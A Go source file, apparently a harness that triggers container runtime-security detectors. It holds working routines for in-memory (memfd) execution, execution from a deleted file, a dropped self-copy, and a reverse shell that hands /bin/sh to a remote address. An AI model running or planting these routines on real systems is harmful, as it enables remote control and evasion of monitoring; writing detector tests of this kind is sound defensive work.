package main

import (
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"syscall"

	"golang.org/x/sys/unix"
)

const droppedPath = "/tmp/dropped"

// execFromMemory executes a copy of this program that exists only in memory.
func execFromMemory(args []string) error {
	fd, err := unix.MemfdCreate("payload", unix.MFD_CLOEXEC)
	if err != nil {
		return fmt.Errorf("make a memory file: %w", err)
	}
	file := os.NewFile(uintptr(fd), "payload")
	if err := copyExecutable(file); err != nil {
		return err
	}
	return execAs(fmt.Sprintf("/proc/self/fd/%d", fd), "payload", args)
}

// execFromDeletedFile executes a copy of this program after its file was deleted.
func execFromDeletedFile(args []string) error {
	const path = "/tmp/.deleted"
	if err := writeSelfTo(path); err != nil {
		return err
	}
	file, err := os.Open(path)
	if err != nil {
		return fmt.Errorf("open the copy: %w", err)
	}
	if err := os.Remove(path); err != nil {
		return fmt.Errorf("unlink the copy: %w", err)
	}
	return execAs(fmt.Sprintf("/proc/self/fd/%d", file.Fd()), path, args)
}

// execFromDroppedFile executes a copy of this program in the container's writable layer.
func execFromDroppedFile(args []string) error {
	if err := writeSelfTo(droppedPath); err != nil {
		return err
	}
	return execAs(droppedPath, droppedPath, args)
}

func writeSelfTo(path string) error {
	file, err := os.OpenFile(path, os.O_CREATE|os.O_WRONLY|os.O_TRUNC, 0o755)
	if err != nil {
		return fmt.Errorf("write a copy of itself: %w", err)
	}
	return errors.Join(copyExecutable(file), file.Close())
}

func copyExecutable(to io.Writer) error {
	self, err := os.Open("/proc/self/exe")
	if err != nil {
		return fmt.Errorf("read itself: %w", err)
	}
	defer self.Close()
	if _, err := io.Copy(to, self); err != nil {
		return fmt.Errorf("copy itself: %w", err)
	}
	return nil
}

// execAs executes the file at path under a name, with a command of this program ("wait" by default).
func execAs(path, name string, args []string) error {
	if len(args) == 0 {
		args = []string{"wait"}
	}
	return fmt.Errorf("execute %s: %w", path, syscall.Exec(path, append([]string{name}, args...), os.Environ()))
}

// testReverseShell connects and executes a shell whose input and output are the connection.
func runReverseShell(address string) error {
	to, err := net.ResolveTCPAddr("tcp4", address)
	if err != nil {
		return fmt.Errorf("resolve %s: %w", address, err)
	}
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
	if err != nil {
		return fmt.Errorf("open a socket: %w", err)
	}
	sockaddr := &unix.SockaddrInet4{Port: to.Port}
	copy(sockaddr.Addr[:], to.IP.To4())
	if err := unix.Connect(fd, sockaddr); err != nil {
		return fmt.Errorf("connect to %s: %w", address, err)
	}
	for std := range 3 {
		if err := unix.Dup3(fd, std, 0); err != nil {
			return fmt.Errorf("put the socket onto descriptor %d: %w", std, err)
		}
	}
	return fmt.Errorf("execute /bin/sh: %w", syscall.Exec("/bin/sh", []string{"sh"}, os.Environ()))
}

// testTerminalShell runs a shell on a new terminal and types lines into it.
func runTerminalShell(lines []string) error {
	master, err := os.OpenFile("/dev/ptmx", os.O_RDWR|syscall.O_NOCTTY, 0)
	if err != nil {
		return fmt.Errorf("open a terminal: %w", err)
	}
	number, err := unix.IoctlGetInt(int(master.Fd()), unix.TIOCGPTN)
	if err != nil {
		return fmt.Errorf("ask for the terminal's number: %w", err)
	}
	if err := unix.IoctlSetPointerInt(int(master.Fd()), unix.TIOCSPTLCK, 0); err != nil {
		return fmt.Errorf("unlock the terminal: %w", err)
	}
	terminal, err := os.OpenFile("/dev/pts/"+strconv.Itoa(number), os.O_RDWR|syscall.O_NOCTTY, 0)
	if err != nil {
		return fmt.Errorf("open the terminal's other side: %w", err)
	}
	shell := exec.Command("/bin/sh")
	shell.Stdin, shell.Stdout, shell.Stderr = terminal, terminal, terminal
	shell.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true}
	if err := shell.Start(); err != nil {
		return fmt.Errorf("start /bin/sh: %w", err)
	}
	terminal.Close()
	// The shell's output ends with an error when the terminal is closed; only the shell's exit matters.
	go func() { _, _ = io.Copy(os.Stdout, master) }()
	if len(lines) > 0 {
		if _, err := master.WriteString(strings.Join(lines, "\n") + "\n"); err != nil {
			return fmt.Errorf("type into the shell: %w", err)
		}
	}
	done := make(chan error, 1)
	go func() { done <- shell.Wait() }()
	select {
	case err := <-done:
		return err
	case <-terminationSignal():
		return shell.Process.Kill()
	}
}
